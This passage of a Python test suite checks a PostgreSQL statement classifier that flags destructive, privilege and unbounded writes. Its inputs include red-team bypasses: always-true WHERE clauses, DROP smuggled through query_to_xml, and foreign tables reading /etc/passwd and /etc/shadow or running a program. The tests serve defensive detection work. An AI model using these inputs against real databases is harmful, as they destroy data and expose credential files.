            "ALTER OPERATOR FAMILY of USING btree ADD FUNCTION 1 (int, int) "
            "f34(int, int)",
            "f34",
        ),
        (
            "CREATE TEXT SEARCH PARSER tp (START=f35, GETTOKEN=a, END=b, LEXTYPES=c)",
            "f35",
        ),
        (
            "CREATE TEXT SEARCH PARSER tp (START=a, GETTOKEN=f36, END=b, LEXTYPES=c)",
            "f36",
        ),
        (
            "CREATE TEXT SEARCH PARSER tp (START=a, GETTOKEN=b, END=f37, LEXTYPES=c)",
            "f37",
        ),
        (
            "CREATE TEXT SEARCH PARSER tp (START=a, GETTOKEN=b, END=c, LEXTYPES=f38)",
            "f38",
        ),
        (
            "CREATE TEXT SEARCH PARSER tp (START=a, GETTOKEN=b, END=c, LEXTYPES=d, "
            "HEADLINE=f39)",
            "f39",
        ),
        ("CREATE TEXT SEARCH TEMPLATE tt (INIT=f40, LEXIZE=x)", "f40"),
        ("CREATE TEXT SEARCH TEMPLATE tt (LEXIZE=f41)", "f41"),
        ("ALTER FUNCTION f(int) SUPPORT f42", "f42"),
        (
            "CREATE SCHEMA s CREATE TABLE t (a int) CREATE TRIGGER tr BEFORE INSERT "
            "ON t FOR EACH ROW EXECUTE FUNCTION f43()",
            "f43",
        ),
    ]

    def test_functions_named(self):
        for sql, name in self.SPELLINGS:
            self.assertIn(name, self.one(sql).functions, sql)

    def test_types_are_not_functions(self):
        """STYPE, LEFTARG, SUBTYPE name types, not functions."""
        s = self.one("CREATE AGGREGATE a(int) (SFUNC=f1, STYPE=mytype)")
        self.assertEqual(s.functions, ("f1",))


class WriteFormsTests(ClassifyTestsMixin, SynchronousTestCase):
    """MERGE, ON CONFLICT and SELECT INTO count as the writes they are."""

    def test_merge_actions(self):
        s = self.one(
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND t.a > 1 THEN DELETE "
            "WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)"
        )
        self.assertEqual(set(s.nested), {"DeleteStmt", "UpdateStmt", "InsertStmt"})
        self.assertEqual(s.has_where, True)

    def test_merge_on_constant_true(self):
        for cond in ("true", "1 = 1", "'a' = 'a'", "t.id = t.id"):
            s = self.one(
                f"MERGE INTO t USING s ON {cond} WHEN MATCHED THEN UPDATE SET a = 1"
            )
            self.assertEqual(s.has_where, False, cond)
        s = self.one(
            "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)"
        )
        self.assertIsNone(s.has_where)

    def test_on_conflict_do_update(self):
        s = self.one(
            "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = 1"
        )
        self.assertEqual((s.has_where, "UpdateStmt" in s.nested), (False, True))
        for bounded in [
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 1",
            "INSERT INTO t SELECT * FROM s WHERE s.id = 3 ON CONFLICT (id) "
            "DO UPDATE SET v = 1",
            "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = 1 "
            "WHERE t.v < 3",
        ]:
            self.assertEqual(self.one(bounded).has_where, True, bounded)
        s = self.one(
            "INSERT INTO t SELECT * FROM s WHERE true ON CONFLICT (id) "
            "DO UPDATE SET v = 1 WHERE 1 = 1"
        )
        self.assertEqual(s.has_where, False)
        s = self.one("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING")
        self.assertEqual((s.has_where, s.nested), (None, ()))

    def test_select_into(self):
        s = self.one("SELECT * INTO t2 FROM t")
        self.assertEqual((s.kind, s.nested), ("SelectStmt", ("CreateTableAsStmt",)))


class ConstantTrueTests(ClassifyTestsMixin, SynchronousTestCase):
    """A WHERE a parser can tell is always true counts as none."""

    TRUE = [
        "true",
        "TRUE",
        "1 = 1",
        "'a' = 'a'",
        "x = x",
        "t.x = t.x",
        "NOT false",
        "x IS NOT NULL OR x IS NULL",
        "x IS NULL OR x IS NOT NULL",
        "x = 5 OR true",
        "1 + 1 = 2",
        "2 > 1",
        "-1 < 0",
        "2 * 3 >= 6",
        "'a' || 'b' = 'ab'",
        "true AND 1 = 1",
        "NOT (1 = 2)",
        "x >= x",
        "x IS NOT DISTINCT FROM x",
        "EXISTS (SELECT 1)",
        "v LIKE '%'",
        "true IS TRUE",
        "'t'::boolean",
        "1::bool",
        "x > 5 OR NOT x > 5",
        "NULL IS NULL",
        "1 IN (1, 2)",
        "1 <> 2",
        "(((true)))",
        "'yes'::bool",
        "1 = 1.0",
        "NOT NOT true",
        "2 BETWEEN 1 AND 3",
        "5 NOT BETWEEN 1 AND 3",
        "(SELECT true)",
        "(SELECT 1) = 1",
    ]
    NOT_TRUE = [
        "x = 5",
        "x = x + 1",
        "false",
        "1 = 2",
        "x IS NULL",
        "x = 5 AND true",
        "NULL",
        "NULL = NULL",
        "x LIKE 'a%'",
        "x = 5 OR x = 6",
        "'a' = 'b'",
        "1 IN (2, 3)",
        "EXISTS (SELECT 1 WHERE false)",
        "NOT NULL",
        "x > 5 OR NOT y > 5",
        "x BETWEEN 1 AND 3",
        "4 BETWEEN 1 AND 3",
    ]

    #: conditions that read no column: one value for every row, so every
    #: row or none (unless known false or NULL)
    READS_NO_ROW = [
        "random() > 0",
        "EXISTS (SELECT 1 FROM t)",
        "'1' = 1",
        "$1",
        "$1::bool",
        "now() > '2000-01-01'",
        "EXISTS (VALUES (1))",
        "(SELECT count(*) FROM u) > 0",
        "(SELECT true FROM t)",
    ]

    #: constant-true spellings found by the red team
    RED_TEAM_TRUE = [
        "x IN (x)",
        "x IN (1, x)",
        "coalesce(NULL, true)",
        "1 BETWEEN 0 AND 2",
        "x BETWEEN x AND x",
        "1 NOT BETWEEN 2 AND 3",
        "(SELECT true)",
        "true AND (SELECT true)",
        "CASE WHEN true THEN true END",
        "CASE 1 WHEN 2 THEN false WHEN 1 THEN true END",
        "x = ANY(ARRAY[x])",
        "x ~~ '%'",
        "1::text = '1'",
        "true::text = 'true'",
        "t.x = x",
        "'1' = '1' COLLATE \"C\"",
        'x = x COLLATE "C"',
        "10 / 2 = 5",
        "-7 / 2 = -3 AND -7 % 2 = -1",
    ]

    #: bounded: must stay so
    BOUNDED = [
        "t.x = u.x",
        "x BETWEEN 1 AND 3",
        "x IN (1, 2)",
        "x = ANY($1)",
        "CASE x WHEN 1 THEN true END",
        "x = ANY(ARRAY[y])",
        "EXISTS (SELECT 1 FROM u WHERE u.k = t.k)",
    ]

    def test_reads_only_another_relation(self):
        """
        A condition that reads only another relation's columns is the
        same for every target row (red team: MERGE ... ON s.k = 1).
        """
        unbounded = [
            "MERGE INTO t USING (SELECT 1 AS k) s ON s.k = 1"
            " WHEN MATCHED THEN UPDATE SET a = 1",
            "UPDATE t SET a = 1 FROM u WHERE u.k = 1",
            "UPDATE t AS x SET a = 1 FROM u WHERE u.k = 1 AND u.j > 2",
            "DELETE FROM t USING u WHERE u.x = 1",
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.k = 1)",
        ]
        bounded = [
            "MERGE INTO t USING s ON t.id = s.k WHEN MATCHED THEN DELETE",
            "UPDATE t AS x SET a = 1 FROM u WHERE x.id = u.id",
            "UPDATE public.t SET a = 1 FROM u WHERE t.id = u.id",
            "DELETE FROM t USING u WHERE u.k = 1 AND id = u.id2",
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.k = t.id)",
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE k = 1)",
        ]
        for sql in unbounded:
            self.assertEqual(self.one(sql).has_where, False, sql)
        for sql in bounded:
            self.assertEqual(self.one(sql).has_where, True, sql)

    def test_reads_no_row(self):
        for cond in self.READS_NO_ROW:
            s = self.one("UPDATE t SET a = 1 WHERE " + cond)
            self.assertEqual(s.has_where, False, cond)

    def test_red_team_true(self):
        for cond in self.RED_TEAM_TRUE:
            s = self.one("UPDATE t SET a = 1 FROM u WHERE " + cond)
            self.assertEqual(s.has_where, False, cond)

    def test_bounded(self):
        for cond in self.BOUNDED:
            s = self.one("UPDATE t SET a = 1 FROM u WHERE " + cond)
            self.assertEqual(s.has_where, True, cond)

    def test_constant_true(self):
        for cond in self.TRUE:
            for stmt in ("DELETE FROM t WHERE ", "UPDATE t SET a = 1 WHERE "):
                s = self.one(stmt + cond)
                self.assertEqual(s.has_where, False, stmt + cond)
                self.assertIn("no-where", command(stmt + cond).flags, cond)

    def test_not_known_true(self):
        for cond in self.NOT_TRUE:
            s = self.one("DELETE FROM t WHERE " + cond)
            self.assertEqual(s.has_where, True, cond)

    @given(st.integers(0, 60), st.sampled_from(["true", "1 = 1", "NOT false", "x = x"]))
    @settings(max_examples=60, deadline=None)
    def test_nested_parentheses_and_nots(self, depth, core):
        """Any depth of NOT NOT and parentheses keeps a true core true."""
        cond = "NOT NOT " * (depth // 2) + "(" * depth + core + ")" * depth
        s = self.one("DELETE FROM t WHERE " + cond)
        self.assertEqual(s.has_where, False, cond)

    @given(
        st.lists(st.sampled_from(["x = 5", "y < 3", "z IS NULL", "1 = 2"]), max_size=5),
        st.sampled_from(["true", "1 = 1", "'a' = 'a'", "k = k", "2 > 1"]),
        st.integers(0, 5),
    )
    @settings(max_examples=80, deadline=None)
    def test_or_with_a_true_disjunct(self, others, truth, at):
        """One true disjunct anywhere in an OR makes it true."""
        parts = list(others)
        parts.insert(min(at, len(parts)), truth)
        s = self.one("UPDATE t SET a = 1 WHERE " + " OR ".join(parts))
        self.assertEqual(s.has_where, False, parts)

    def test_shape_not_shared_when_constants_decide(self):
        """Texts of one shape whose constants decide are classified each."""
        cache = CommandCache()
        harmless = cache.classify("DELETE FROM t WHERE 1 = 2").commands[0]
        harmful = cache.classify("DELETE FROM t WHERE 1 = 1").commands[0]
        self.assertNotIn("no-where", harmless.flags)
        self.assertIn("no-where", harmful.flags)
        cache.classify("SELECT query_to_xml('select 1', true, true, '')")
        found = cache.classify("SELECT query_to_xml('drop table t', true, true, '')")
        self.assertIn("DropStmt", found.commands[0].kinds)
        cache.classify("SET ROLE harmless")
        found = cache.classify("SET ROLE postgres")
        self.assertEqual(found.statements[0].sensitive[0].value, "postgres")
        cache.classify("UPDATE t SET a = 1 WHERE $1")
        found = cache.classify("UPDATE t SET a = 1 WHERE true")
        self.assertIn("no-where", found.commands[0].flags)

    def test_plain_filters_still_shared(self):
        """pgbench's statements keep sharing their shape's classification."""
        cache = CommandCache()
        for key in range(5):
            cache.classify(
                f"UPDATE pgbench_accounts SET abalance = abalance + {key} "
                f"WHERE aid = {key}"
            )
            cache.classify(f"SELECT abalance FROM pgbench_accounts WHERE aid = {key}")
        self.assertEqual(cache.parses, 2)


class CategoryTests(SynchronousTestCase):
    """Every kind has a category; the siblings land where they belong."""

    def test_every_kind_categorised(self):
        from gatehouse.protocols.postgres.categories import INNER_ONLY, categories_of
        from gatehouse.protocols.postgres.commands import COMMAND_KINDS

        for kind in COMMAND_KINDS - INNER_ONLY - {"Unparseable", "CopyStmt"}:
            self.assertTrue(categories_of({kind}), kind)

    def test_builtin_functions_with_effects(self):
        """
        Built-ins that write, destroy or act on the server, called from a
        SELECT, are in those categories too (found by the red team).
        """
        cases = {
            "SELECT lo_unlink(42)": {"read", "write", "destructive"},
            "SELECT pg_catalog.lo_unlink(oid) FROM pg_largeobject_metadata": {
                "read",
                "write",
                "destructive",
            },
            "SELECT lo_put(42, 0, 'x')": {"read", "write"},
            "SELECT setval('s', 1)": {"read", "write"},
            "SELECT pg_terminate_backend(1)": {"read", "admin"},
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity": {"read", "admin"},
            "SELECT pg_reload_conf()": {"read", "admin"},
            "SELECT query_to_xml('select lo_unlink(42)', true, true, '')": {
                "read",
                "write",
                "destructive",
            },
            "SELECT lo_get(42)": {"read"},
        }
        for sql, expected in cases.items():
            (statement,) = classify(sql)
            self.assertEqual(
                set(statement_command(statement).categories), expected, sql
            )

    def test_ddl_naming_existing_functions(self):
        """
        DDL that renames, moves, drops, grants, alters or replaces a
        function names it in C{functions}, for function rules (red team).
        """
        cases = {
            "ALTER FUNCTION evil(int) RENAME TO nice": ("evil",),
            "ALTER ROUTINE s.evil(int) SET SCHEMA t": ("s.evil",),
            "ALTER PROCEDURE evil() OWNER TO r": ("evil",),
            "ALTER FUNCTION evil(int) SECURITY DEFINER": ("evil",),
            "DROP FUNCTION evil(int), other()": ("evil", "other"),
            "GRANT EXECUTE ON FUNCTION evil(int) TO PUBLIC": ("evil",),
            "COMMENT ON FUNCTION evil(int) IS 'x'": ("evil",),
            "CREATE OR REPLACE FUNCTION public.evil() RETURNS int"
            " LANGUAGE sql AS 'select 1'": ("public.evil",),
        }
        for sql, functions in cases.items():
            (statement,) = classify(sql)
            self.assertEqual(statement.functions, functions, sql)

    def test_renames_and_rewrites(self):
        """
        A role's rename is a privilege change, a database's an admin one;
        ALTER COLUMN ... TYPE ... USING rewrites every row (red team).
        """
        cases = {
            "ALTER ROLE r RENAME TO x": ({"ddl", "privilege"}, set()),
            "ALTER USER r RENAME TO x": ({"ddl", "privilege"}, set()),
            "ALTER DATABASE d RENAME TO x": ({"ddl", "admin"}, set()),
            "ALTER TABLESPACE s RENAME TO x": ({"ddl", "admin"}, set()),
            "ALTER TABLE t RENAME TO x": ({"ddl"}, set()),
            "ALTER TABLE t ALTER COLUMN v TYPE text USING 'gone'": (
                {"ddl", "write"},
                {"no-where"},
            ),
            "ALTER TABLE t ALTER v TYPE int USING v::int": (
                {"ddl", "write"},
                {"no-where"},
            ),
            "ALTER TABLE t ALTER COLUMN v TYPE text": ({"ddl"}, set()),
        }
        for sql, (categories, flags) in cases.items():
            (statement,) = classify(sql)
            found = statement_command(statement)
            self.assertEqual(set(found.categories), categories, sql)
            self.assertEqual(set(found.flags), flags, sql)

    def test_siblings(self):
        cases = {
            "DROP OWNED BY current_user": {"destructive", "privilege"},
            "DROP DATABASE x": {"destructive", "admin"},
            "REASSIGN OWNED BY a TO b": {"destructive", "privilege"},
            "TRUNCATE t": {"destructive", "write"},
            "DELETE FROM t WHERE id = 1": {"destructive", "write"},
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE": {
                "destructive",
                "write",
            },
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1": {
                "write"
            },
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1": {"write"},
            "CREATE TABLE t2 AS SELECT 1": {"write", "ddl"},
            "SELECT * INTO t2 FROM t": {"read", "write", "ddl"},
            "CREATE VIEW v AS SELECT 1": {"ddl"},
            "CREATE SEQUENCE s": {"ddl"},
            "CREATE SCHEMA s": {"ddl"},
            "CREATE TYPE ty AS (a int)": {"ddl"},
            "ALTER TABLE t SET SCHEMA s": {"ddl"},
            "ALTER TABLE t DROP COLUMN a": {"ddl", "destructive"},
            "ALTER TABLE t OWNER TO x": {"ddl", "privilege"},
            "ALTER TABLE t ENABLE ROW LEVEL SECURITY": {"ddl", "privilege"},
            "GRANT SELECT ON t TO PUBLIC": {"privilege"},
            "SET ROLE x": {"session", "privilege"},
            "SET search_path = a": {"session"},
            "VACUUM t": {"admin"},
            "ALTER SYSTEM SET work_mem = '1MB'": {"admin"},
            "SELECT 1": {"read"},
            "COPY t TO STDOUT": {"read"},
            "COPY t FROM STDIN": {"write"},
            "EXPLAIN ANALYZE DELETE FROM t": {"read", "write", "destructive"},
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d": {
                "read",
                "write",
                "destructive",
            },
            "DO $$ BEGIN END $$": {"code"},
            "SELECT query_to_xml('drop table t', true, true, '')": {
                "read",
                "ddl",
                "destructive",
            },
        }
        for sql, expected in cases.items():
            self.assertEqual(set(command(sql).categories), expected, sql)


class DeepJSONTests(SynchronousTestCase):
    """The iterative JSON decoder reads libpg_query's trees as json does."""

    def test_same_as_json(self):
        import json

        from pglast import parser

        from gatehouse.protocols.postgres.statements import _load_deep

        for sql in [
            "SELECT 1",
            "SELECT 'a\\\\b\"c', E'\\\\u00e9', -1.5e3, NULL, true FROM t WHERE x = -2",
            "CREATE TABLE t (a int DEFAULT 0, b text[] NOT NULL)",
            "SELECT '' || 'é😀' AS \"odd \"\" name\"",
            "COPY t FROM STDIN WITH (FORMAT csv, DELIMITER ';')",
        ]:
            text = parser.parse_sql_json(sql)
            self.assertEqual(_load_deep(text), json.loads(text), sql)

    @given(
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.text(),
            lambda inner: (
                st.lists(inner, max_size=4)
                | st.dictionaries(st.text(max_size=5), inner, max_size=4)
            ),
            max_leaves=20,
        )
    )
    @settings(max_examples=100, deadline=None)
    def test_random_documents(self, value):
        import json

        from gatehouse.protocols.postgres.statements import _load_deep

        document = {"v": value}
        self.assertEqual(_load_deep(json.dumps(document)), document)


class CopyOptionTests(SynchronousTestCase):
    """
    COPY options that make PostgreSQL split or double the characters of
    values (red team: a CSV QUOTE '1' doubles every 1 of a card).
    """

    def copy(self, sql: str):
        (statement,) = classify(sql)
        return statement.copy

    def test_rewrites_values(self):
        for sql in [
            "COPY t TO STDOUT (FORMAT csv, QUOTE '1')",
            "COPY t TO STDOUT CSV QUOTE '1'",
            "COPY (SELECT 1) TO STDOUT (FORMAT csv, FORCE_QUOTE *, ESCAPE '1')",
            "COPY t TO STDOUT (FORMAT csv, QUOTE '''')",
            "COPY t TO STDOUT (DELIMITER '1')",
            "COPY t TO STDOUT (DELIMITER 'a')",
            "COPY t TO STDOUT (DELIMITER '@')",
            "COPY t TO STDOUT WITH DELIMITER ' '",
        ]:
            self.assertTrue(self.copy(sql).rewrites_values(), sql)

    def test_keeps_values(self):
        for sql in [
            "COPY t TO STDOUT",
            "COPY t TO STDOUT (FORMAT csv)",
            "COPY t TO STDOUT (FORMAT csv, QUOTE '\"', ESCAPE '\"')",
            "COPY t TO STDOUT (FORMAT csv, DELIMITER '1')",
            "COPY t TO STDOUT (DELIMITER '|')",
            "COPY t TO STDOUT (FORMAT csv, HEADER, DELIMITER ';')",
        ]:
            self.assertFalse(self.copy(sql).rewrites_values(), sql)


class ForeignTableOptionTests(SynchronousTestCase):
    """
    Foreign table options that read files, run programs or name another
    relation (red team: file_fdw over /etc/passwd, program 'touch ...').
    """

    def test_file_and_program(self):
        (s,) = classify(
            "CREATE FOREIGN TABLE f (l text) SERVER files"
            " OPTIONS (filename '/etc/passwd')"
        )
        self.assertEqual(s.flags, {"server-file", "copy-from-file"})
        (s,) = classify(
            "CREATE FOREIGN TABLE f (l text) SERVER files OPTIONS (program 'id')"
        )
        self.assertIn("copy-program", statement_command(s).flags)
        (s,) = classify("ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/shadow')")
        self.assertEqual(s.flags, {"server-file", "copy-from-file"})
        (s,) = classify("ALTER FOREIGN TABLE f OPTIONS (ADD program 'id')")
        self.assertIn("copy-program", statement_command(s).flags)

    def test_remote_relation(self):
        (s,) = classify(
            "CREATE FOREIGN TABLE f (a int) SERVER pg"
            " OPTIONS (schema_name 'public', table_name 'secret')"
        )
        self.assertEqual(set(s.relations), {"f", "public.secret"})
        (s,) = classify("ALTER FOREIGN TABLE f OPTIONS (SET table_name 'secret')")
        self.assertEqual(set(s.relations), {"f", "secret"})
        (s,) = classify("CREATE FOREIGN TABLE f (a int) SERVER pg")
        self.assertEqual((s.relations, s.flags), (("f",), frozenset()))
